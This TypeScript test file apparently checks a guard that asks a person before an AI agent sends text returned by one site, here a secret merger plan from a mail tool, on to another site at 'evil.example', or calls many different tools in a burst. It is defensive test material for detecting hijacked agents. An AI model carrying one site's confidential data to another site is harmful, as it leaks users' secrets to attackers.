/** Patterns of requests that look as if the agent had been taken over: the person is asked · S0-50 */
import { describe, expect, it, vi } from "vitest";
import { type AskingHouse, answer, askingHouse, passes, READING } from "../../asking-house.js";
import { AGENT } from "../../fake-agent.js";
import { FakePage, json } from "../../fake-page.js";
import { until } from "../../until.js";

const SECRET_PLAN = "The merger with Halden Foods closes on the ninth, and only the board may know.";
const EVIL = "https://evil.example";
const GIVING = {
  ...READING,
  inputSchema: JSON.stringify({ type: "object", properties: { q: { type: "string" } } }),
};

/** Two sites, both of which the agent may use without a question. */
async function twoSites(): Promise<{ mail: AskingHouse; evil: AskingHouse; page: FakePage }> {
  const mail = await askingHouse({ tools: [READING], answer: () => json({ id: SECRET_PLAN }) });
  const sender = { tabId: 2, documentId: "doc-2", origin: EVIL, url: `${EVIL}/` };
  const page = await new FakePage(mail.browser, {
    ...sender,
    tools: [GIVING],
    answer: () => json({ id: "y" }),
  }).settled();
  await mail.panel.command({ type: "connect-tab", agent: AGENT, tabId: 2, connected: true });
  const names = (await mail.agent.tools()).map(({ name }) => name);
  const [evil] = names.filter((name) => name !== mail.name);
  const other = { ...mail, name: evil ?? "" };
  for (const set of [mail, other]) await answer(set, "always");
  return { mail, evil: other, page };
}

async function rulesAsked(set: AskingHouse, args: object): Promise<readonly string[]> {
  const call = set.agent.callId(set.name, args);
  const question = await until(() =>
    set.agent.answerTo(call)
      ? { id: "", reasons: [] }
      : set.panel.state?.questions.find(({ id }) => !set.answered.has(id)),
  );
  set.answered.add(question.id);
  return "reasons" in question ? question.reasons.map(({ rule }) => rule) : [];
}

describe("Arguments that repeat what another site returned", () => {
  it("are the person's to let go, although the tool claims to change nothing", async () => {
    const { evil, page } = await twoSites();
    const runs = page.runs.length;
    expect(await rulesAsked(evil, { q: `find ${SECRET_PLAN.slice(4, 60).toUpperCase()}` })).toEqual([
      "confirm-carried-text",
    ]);
    expect(page.runs).toHaveLength(runs);
  });

  it("do not reach the page by its resolver either", async () => {
    const { evil, page, mail } = await twoSites();
    page.report([{ ...GIVING, dynamic: true }]);
    await mail.agent.tools();
    await answer(evil, "always");
    const before = page.resolves.length;
    const { error } = await evil.agent.request("tools/resolve", {
      name: evil.name,
      arguments: { q: SECRET_PLAN },
    });
    expect([error === undefined, page.resolves.length]).toEqual([false, before]);
  });

  it("are not asked about where they go back to the site that they came from, or are the agent's own", async () => {
    const { mail, evil } = await twoSites();
    expect(await rulesAsked(mail, { label: SECRET_PLAN })).toEqual([]);
    expect(await rulesAsked(evil, { q: "words of the agent's own that no tool has returned to it" })).toEqual(
      [],
    );
  });

  it("are forgotten with the session, and with fifty later results", async () => {
    const ended = await twoSites();
    await ended.mail.panel.command({ type: "end-session", agent: AGENT });
    expect(await rulesAsked(ended.evil, { q: SECRET_PLAN })).toEqual([]);
    const { mail, evil } = await twoSites();
    mail.page.answer = () =>
      json({ id: "Nothing of that kind is in this result, nor in any of those after it." });
    for (let time = 0; time < 50; time++) await mail.agent.call(mail.name);
    expect(await rulesAsked(evil, { q: SECRET_PLAN })).toEqual([]);
  });
});

describe("Many different tools within seconds", () => {
  const tools = Array.from({ length: 22 }, (_, n) => ({
    ...READING,
    registration: n + 1,
    name: `look_${n}`,
  }));

  async function callAll(pauseAfter: number): Promise<readonly string[]> {
    const set = await askingHouse({ tools });
    const names = (await set.agent.tools()).map(({ name }) => name);
    let now = Date.now();
    const clock = vi.spyOn(Date, "now").mockImplementation(() => now);
    try {
      for (const name of names) {
        now += 2_000;
        await answer({ ...set, name }, "always");
      }
      now += 60_000;
      for (const [index, name] of names.entries()) {
        if (index === pauseAfter) now += 60_000;
        const rules = await rulesAsked({ ...set, name }, {});
        if (rules.length > 0) return [`${index}`, ...rules];
      }
      return [];
    } finally {
      clock.mockRestore();
    }
  }

  it("are asked about from the twentieth on", async () => {
    expect(await callAll(-1)).toEqual(["19", "confirm-bursts"]);
  });

  it("are not asked about where there was a pause between them", async () => {
    expect(await callAll(11)).toEqual([]);
  });

  it("are as many calls of one tool as an agent likes, without a question", async () => {
    const set = await askingHouse({ tools: [READING] });
    await answer(set, "always");
    for (let n = 0; n < 15; n++) expect(await passes(set)).toBe(true);
  });
});
